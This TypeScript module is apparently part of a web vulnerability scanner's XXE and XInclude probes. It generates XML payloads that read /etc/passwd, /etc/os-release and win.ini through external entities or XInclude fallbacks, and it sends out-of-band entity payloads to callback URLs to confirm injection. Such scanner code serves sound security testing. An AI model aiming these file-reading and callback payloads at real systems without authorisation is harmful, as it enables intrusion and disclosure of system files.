import type { Exchange } from '../../../model/artifacts.ts'
import type { CallbackUrl, ProbeContext } from '../../../model/probe.ts'
import type { ProbeRequest } from '../../../model/probeRequest.ts'
import { placeOf } from '../../../report/evidence/observeProbe.ts'
import type { InsertionPoint } from '../_shared/insertionPoints.ts'
import { knownFiles, type SystemFile } from '../_shared/knownFiles.ts'
import { isInPlaceOfJson, type XmlCarrier, type XmlText } from './_xmlCarriers.ts'

type XmlAttempt = { readonly request: ProbeRequest; readonly exchange: Exchange }

type Sender = Pick<ProbeContext, 'send' | 'random'>

async function sendDocument(
  { send }: Sender,
  carrier: XmlCarrier,
  text: XmlText,
): Promise<XmlAttempt | null> {
  const request = carrier.write(text)
  const response = await send(request)
  return response.ok ? { request, exchange: response.exchange } : null
}

type EntityLook = XmlAttempt & {
  /** Internal entities were expanded. */
  readonly isRead: boolean
  readonly isShown: boolean
}

/** Tests whether internal entities are expanded, as safe parsers also do. */
export async function readsEntities(context: Sender, carrier: XmlCarrier): Promise<EntityLook | null> {
  const [plain, first, second] = [context.random.word(8), context.random.word(8), context.random.word(8)]
  const [one, other] = [context.random.word(5), context.random.word(5)]
  const attempt = await sendDocument(context, carrier, {
    declared: `<!ENTITY ${one} "${first}"><!ENTITY ${other} "${second}">`,
    value: `${plain} &${one};&${other};`,
  })
  if (attempt === null) return null
  const { body } = attempt.exchange
  return { ...attempt, isRead: body.includes(`${first}${second}`), isShown: body.includes(plain) }
}

export type Reading = {
  note(carrier: XmlCarrier, look: EntityLook): void
  mayRead(carrier: XmlCarrier): boolean
  hasRead(point: InsertionPoint): boolean
}

export function openReading({ looks }: Pick<ProbeContext, 'looks'>): Reading {
  const read = new Set<string>()
  const notRead = new Set<string>()
  const refusing = new Set<string>()
  return {
    note(carrier, look) {
      const { status } = look.exchange
      if (look.isRead) read.add(placeOf(carrier.entry, carrier.parameter))
      // RFC 9110 §15.5.16: the endpoint rejects the media type for any content.
      if (status === 415) refusing.add(endpointOf(carrier))
      if (status < 400 && !look.isShown && isRepeated(carrier, looks)) notRead.add(keyOf(carrier))
    },
    mayRead: (carrier) =>
      !(isInPlaceOfJson(carrier) && refusing.has(endpointOf(carrier))) && !notRead.has(keyOf(carrier)),
    hasRead: ({ entry, parameter }) => read.has(placeOf(entry, parameter)),
  }
}

/** Parsed documents would be echoed as JSON values are. */
function isRepeated(carrier: XmlCarrier, looks: ProbeContext['looks']): boolean {
  if (!isInPlaceOfJson(carrier)) return false
  const { entry } = carrier
  return entry.parameters.some(
    (parameter) => parameter.place === 'json' && looks.of(entry, parameter)?.repeats === true,
  )
}

function endpointOf({ entry: { method, url } }: XmlCarrier): string {
  return `${method} ${url.split('?', 1)[0]}`
}

function keyOf({ entry, parameter, kind }: XmlCarrier): string {
  return `${entry.id} ${parameter.place} ${parameter.name} ${kind}`
}

type ReadableFile = { readonly file: SystemFile; readonly url: string }

const readableFiles: readonly ReadableFile[] = [
  { file: knownFiles.osRelease, url: 'file:///etc/os-release' },
  { file: knownFiles.passwd, url: 'file:///etc/passwd' },
  { file: knownFiles.winIni, url: 'file:///C:/Windows/win.ini' },
]

type Inclusion = {
  readonly name: string
  readonly write: (url: string, word: string) => XmlText
  /** The parser reads the first file that exists. */
  readonly writeAny?: (urls: readonly string[], word: string) => XmlText
}

export const externalEntity: Inclusion = {
  name: 'an external entity',
  write: (url, word) => ({
    declared: `<!ENTITY ${word} SYSTEM "${url}">`,
    value: `&${word};`,
  }),
}

export const xInclude: Inclusion = {
  name: 'XInclude',
  write: (url, word) => including([url], word),
  writeAny: including,
}

/** XInclude 1.0 §3.2: fallback. */
function including(urls: readonly string[], word: string): XmlText {
  const include = urls.reduceRight(
    (instead, url) =>
      instead === ''
        ? `<xi:include parse="text" href="${url}"/>`
        : `<xi:include parse="text" href="${url}"><xi:fallback>${instead}</xi:fallback></xi:include>`,
    '',
  )
  return {
    declared: '',
    value: `<${word} xmlns:xi="http://www.w3.org/2001/XInclude">${include}</${word}>`,
  }
}

export type FileProof = ReadableFile & {
  readonly inclusion: Inclusion
  readonly line: string
  readonly again: XmlAttempt
  readonly missing: XmlAttempt
}

export async function readFileThrough(
  context: Sender,
  carrier: XmlCarrier,
  inclusion: Inclusion,
): Promise<FileProof | null> {
  const read = (url: string) => sendDocument(context, carrier, inclusion.write(url, context.random.word(5)))
  const readable = await findReadable(context, carrier, inclusion)
  if (readable === null) return null
  const { file, url } = readable
  const missing = await read(`${url}-${context.random.word()}`)
  const again = await read(url)
  if (missing === null || again === null) return null
  const line = file.recognize(again.exchange.body)
  if (line === null || file.recognize(missing.exchange.body) !== null) return null
  return { ...readable, inclusion, line, again, missing }
}

async function findReadable(
  context: Sender,
  carrier: XmlCarrier,
  { write, writeAny }: Inclusion,
): Promise<ReadableFile | null> {
  const word = () => context.random.word(5)
  const documents =
    writeAny === undefined
      ? readableFiles.map(({ url }) => write(url, word()))
      : [
          writeAny(
            readableFiles.map(({ url }) => url),
            word(),
          ),
        ]
  for (const document of documents) {
    const first = await sendDocument(context, carrier, document)
    const shown = readableFiles.find(
      ({ file }) => first !== null && file.recognize(first.exchange.body) !== null,
    )
    if (shown !== undefined) return shown
  }
  return null
}

export type CallingDocument = XmlAttempt & {
  readonly carrier: XmlCarrier
  readonly urls: readonly CallbackUrl[]
}

const waitMsMax = 3_000
const waitStepMs = 250

type Caller = Sender & Pick<ProbeContext, 'callbacks' | 'left' | 'wait'>

export async function callThrough(
  context: Caller,
  carriers: readonly XmlCarrier[],
  { isControl = false }: { readonly isControl?: boolean } = {},
): Promise<readonly CallingDocument[]> {
  const { callbacks, random, left, wait } = context
  const sent: CallingDocument[] = []
  for (const carrier of carriers) {
    if (callbacks === null || left() === 0) break
    const urls = [await callbacks.open(), await callbacks.open()]
    const [inText = '', inDeclaration = ''] = urls.map(({ url }) => url)
    const [general, parameter] = [random.word(5), random.word(5)]
    const attempt = await sendDocument(
      context,
      carrier,
      isControl
        ? { declared: '', value: `${inText} ${inDeclaration}` }
        : {
            declared: `<!ENTITY ${general} SYSTEM "${inText}"><!ENTITY % ${parameter} SYSTEM "${inDeclaration}">%${parameter};`,
            value: `&${general};`,
          },
    )
    if (attempt !== null) sent.push({ ...attempt, carrier, urls })
  }
  const isCalled = ({ urls }: CallingDocument) => urls.some(({ wasCalled }) => wasCalled())
  for (
    let waitedMs = 0;
    waitedMs < waitMsMax && !sent.every(isCalled) && sent.length > 0;
    waitedMs += waitStepMs
  ) {
    await wait(waitStepMs)
  }
  return sent.filter(isCalled)
}
